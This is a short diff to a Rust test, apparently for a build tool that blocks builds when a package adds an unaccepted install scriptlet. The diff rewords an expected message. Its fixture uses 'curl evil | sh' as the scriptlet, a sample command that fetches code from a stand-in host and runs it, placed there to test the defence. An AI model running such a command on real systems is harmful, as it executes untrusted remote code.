@@ -78,7 +78,7 @@ fn a_new_script_stops_the_build_until_it_is_accepted() {
     scripted(&mut fixture, "2.0", &[], "true", "curl evil | sh");
     let said = out(&locked(&fixture, &["--update"]));
     assert!(said.contains("kit: 1.0-1.noarch -> 2.0-1.noarch"), "{said}");
-    assert!(said.contains("1 scriptlet(s) are new and not accepted"), "{said}");
+    assert!(said.contains("1 scriptlet is new and not accepted"), "{said}");
     let stopped = build(&fixture);
     assert_eq!(stopped.status.code(), Some(1));
     let said = err(&stopped);
